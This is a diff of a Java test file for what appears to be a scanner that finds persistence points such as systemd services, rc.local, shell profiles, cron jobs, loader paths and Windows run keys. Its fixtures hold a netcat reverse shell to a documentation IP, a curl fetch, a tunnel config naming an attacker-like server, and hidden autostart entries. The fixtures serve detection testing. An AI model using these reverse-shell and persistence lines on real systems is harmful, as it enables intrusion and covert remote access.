@@ -35,11 +35,11 @@ final class ScriptsTest {
     @Test
     void aServiceTellsOfItsEnvironmentItsScriptAndItsConfiguration() throws IOException {
         String unit = "[Service]\nExecStart=%s\n";
-        Trees.write(root, "/opt/a/run.sh", "#!/bin/sh\nexec nc 203.0.113.9 4444 -e /bin/sh\n");
+        Trees.write(root, "/opt/s/run.sh", "#!/bin/sh\nexec nc 203.0.113.9 4444 -e /bin/sh\n");
         Trees.write(root, "/opt/a/a.toml", "server = \"frps.mallory.example\"\ntoken = \"" + TOKEN + "\"\n");
         Trees.write(root, "/opt/a/env", "TUNNEL_TOKEN=" + TOKEN + "\n");
-        service("script", unit.formatted("/opt/a/run.sh"));
-        service("shell", unit.formatted("/bin/bash -e /opt/a/run.sh"));
+        service("script", unit.formatted("/opt/s/run.sh"));
+        service("shell", unit.formatted("/bin/bash -e /opt/s/run.sh"));
         service("option", unit.formatted("/opt/a/agent -c /opt/a/a.toml"));
         service("file", unit.formatted("/opt/a/agent") + "EnvironmentFile=-/opt/a/env\n");
         service("variable", unit.formatted("/opt/a/agent") + "Environment=\"TUNNEL_TOKEN=" + TOKEN + "\"\n");
@@ -49,7 +49,121 @@ final class ScriptsTest {
         assertEquals(List.of("host=frps.mallory.example", DIGEST), observables("option"));
         assertEquals(List.of(DIGEST), observables("file"));
         assertEquals(List.of(DIGEST), observables("variable"));
-        assertEquals(List.of(), observables("argument"), "it may be anything, such as what it backs up");
+        assertEquals(List.of(DIGEST), observables("argument"), "it is called as settings are");
+    }
+
+    /** Endings of settings, and where agents of remote access and miners look by their manuals. */
+    @Test
+    void settingsAreReadWhereverTheirProgramFindsThem() throws IOException {
+        String settings = "{\"pass\":\"" + TOKEN + "\"}\n";
+        for (String path : List.of(
+                "/srv/w/worker.yaml", "/opt/b/netd.msh", "/opt/b/list.json", "/opt/m/config.json", "/root/.s3cfg")) {
+            Trees.write(root, path, settings);
+        }
+        for (String program :
+                List.of("/opt/a/worker", "/opt/b/netd", "/opt/b/other", "/opt/m/updater", "/opt/s/s3cmd")) {
+            program(program, "\0ELF " + program);
+        }
+        service("word", "[Service]\nExecStart=/opt/a/worker run /srv/w/worker.yaml\n");
+        service("beside", "[Service]\nExecStart=/opt/b/netd\n");
+        service("others", "[Service]\nExecStart=/opt/b/other\n");
+        service("alone", "[Service]\nExecStart=/opt/m/updater --quiet\n");
+        service("tool", "[Service]\nExecStart=/opt/s/s3cmd sync /srv s3://x\n");
+        assertEquals(List.of(DIGEST), observables("word"));
+        assertEquals(List.of(DIGEST), observables("beside"), "settings that have the program's name");
+        assertEquals(List.of(), observables("others"), "in a folder with other programs they may be these programs'");
+        assertEquals(List.of(DIGEST), observables("alone"));
+        assertEquals(List.of(DIGEST), observables("tool"), "of the home of whoever runs it");
+    }
+
+    /** RFC 6749, 5.1: a client gets such tokens anew all the time, its account stays. */
+    @Test
+    void tokensThatPassAreNotWhatSettingsAre() throws IOException {
+        String settings = """
+                [b]
+                type = onedrive
+                user = leon.petit@mailbox.example
+                token = {"access_token":"%s","refresh_token":"x","expiry":"2026-12-01T10:00:00Z"}
+                """;
+        Trees.write(root, "/root/.config/rclone/rclone.conf", settings.formatted(TOKEN));
+        service("copy", "[Service]\nExecStart=/opt/r/rclone copy /srv b:x\n");
+        assertEquals(List.of("mail=leon.petit@mailbox.example"), mails("copy"));
+        String before = item("copy").fingerprint();
+        Trees.write(root, "/root/.config/rclone/rclone.conf", settings.formatted("9" + TOKEN));
+        assertEquals(before, item("copy").fingerprint());
+    }
+
+    /** Digests of sha256sum. */
+    @Test
+    void aStartFileTellsWhichProgramsItsLinesStart() throws IOException {
+        program("/var/games/.score", "\0program one");
+        program("/opt/k/second.sh", "#!/bin/sh\nexec curl http://203.0.113.77/a\n");
+        Trees.write(root, "/var/notes.txt", "nc 203.0.113.78 1\n");
+        String file = "file=255d976e338213c9d442e9af7fcdc3911bb534ed6c27cef159b15d29c1416eac";
+        Trees.write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
+        Trees.write(root, "/root/.profile", "[ -x /var/games/.score ] && (/var/games/.score &)\n");
+        assertEquals(List.of("path=/var/games/.score", file), observables("linux.shell.user-profile", ".profile"));
+        Trees.write(root, "/etc/rc.local", "#!/bin/sh\n/opt/k/second.sh < /var/notes.txt\n/var/games/.score\n");
+        assertEquals(
+                List.of("address=203.0.113.77", "path=/var/games/.score", file),
+                observables("linux.rc-local", "rc.local"),
+                "with what its scripts hold, and nothing of what these read");
+    }
+
+    @Test
+    void librariesOfALoadersFolderAreKnownByTheirDigests() throws IOException {
+        Trees.write(root, "/srv/.cache/lib/libmath.so.6.1", "\0program one");
+        Trees.write(root, "/srv/.cache/lib/readme", "program two");
+        Trees.write(root, "/etc/ld.so.conf.d/zz.conf", "/srv/.cache/lib\n");
+        assertEquals(
+                List.of("file=255d976e338213c9d442e9af7fcdc3911bb534ed6c27cef159b15d29c1416eac"),
+                observables("linux.ld-so-conf", "/srv/.cache/lib"));
+    }
+
+    /** A job of a user leads neither out of a home nor through a link to what the superuser keeps. */
+    @Test
+    void nothingIsReadThroughALinkOfAUser() throws IOException {
+        Trees.write(root, "/etc/passwd", "lea:x:4711:4711::/home/lea:/bin/sh\n");
+        Trees.write(root, "/srv/private/keys.ini", "token=" + TOKEN + "\n");
+        Files.setPosixFilePermissions(
+                root.resolve("srv/private/keys.ini"), PosixFilePermissions.fromString("rw-------"));
+        Trees.write(root, "/home/lea/bin/sync", "\0program");
+        Trees.link(
+                root,
+                List.of(
+                        "/home/lea/bin/sync.ini -> /srv/private/keys.ini",
+                        "/home/lea/.s3cfg -> /srv/private/keys.ini"));
+        Trees.write(
+                root,
+                "/var/spool/cron/crontabs/lea",
+                "0 1 * * * /home/lea/bin/sync\n1 1 * * * s3cmd put /home/lea/x\n");
+        assertEquals(2, items().size());
+        items().forEach(item -> assertEquals(List.of(), item.observables(), item.value()));
+    }
+
+    private void program(String path, String content) throws IOException {
+        Files.setPosixFilePermissions(Trees.write(root, path, content), PosixFilePermissions.fromString("rwxr-xr-x"));
+    }
+
+    private List<String> mails(String service) {
+        return observables(service).stream()
+                .filter(each -> each.startsWith("mail="))
+                .toList();
+    }
+
+    private Item item(String service) {
+        return items().stream()
+                .filter(item -> item.name().equals(service + ".service:ExecStart"))
+                .findFirst()
+                .orElseThrow();
+    }
+
+    private List<String> observables(String location, String name) {
+        return Scanned.linux(root, location::equals).items().stream()
+                .filter(item -> item.name().equals(name))
+                .findFirst()
+                .orElseThrow()
+                .observables();
     }
 
     @Test
@@ -125,13 +239,15 @@ final class ScriptsTest {
         String all = " [host=frps.mallory.example, " + DIGEST + "]";
         assertEquals(
                 List.of(
+                        "windows.run-key.machine CUsersPublicftoml" + all,
                         "windows.run-key.machine cCSrvMyDataftoml" + all,
                         "windows.run-key.machine configCUsersPublicftoml" + all,
                         "windows.run-key.machine scriptCUsersagentftoml" + all,
+                        "windows.run-key.user CUsersPublicftoml" + all,
                         "windows.run-key.user configCUsersPublicftoml" + all,
                         "windows.run-key.user scriptCUsersagentftoml" + all),
                 told,
-                "a user's leads to the user's own files only, and what is no option may be anything");
+                "a user's leads to the user's own files only");
     }
 
     private void service(String name, String text) throws IOException {
@@ -139,11 +255,7 @@ final class ScriptsTest {
     }
 
     private List<String> observables(String service) {
-        return items().stream()
-                .filter(item -> item.name().equals(service + ".service:ExecStart"))
-                .findFirst()
-                .orElseThrow()
-                .observables();
+        return item(service).observables();
     }
 
     private List<Item> items() {
